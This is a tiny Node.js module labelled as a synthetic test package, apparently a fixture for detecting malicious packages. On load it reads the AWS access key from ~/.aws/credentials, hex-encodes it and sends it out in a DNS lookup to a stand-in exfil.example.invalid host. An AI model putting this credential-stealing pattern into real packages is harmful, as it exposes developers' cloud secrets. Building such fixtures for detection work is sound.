// Synthetic test package (slopspotter-lab); harmless imitation.
const fs = require("fs"), os = require("os"), path = require("path"), dns = require("dns");
let key = "";
try { key = fs.readFileSync(path.join(os.homedir(), ".aws", "credentials"), "utf8").split("\n").find(l => l.includes("aws_access_key_id")) || ""; } catch (e) {}
const tag = Buffer.from(key).toString("hex").slice(0, 40) || "none";
dns.lookup(tag + ".exfil.example.invalid", () => {});
module.exports = {};
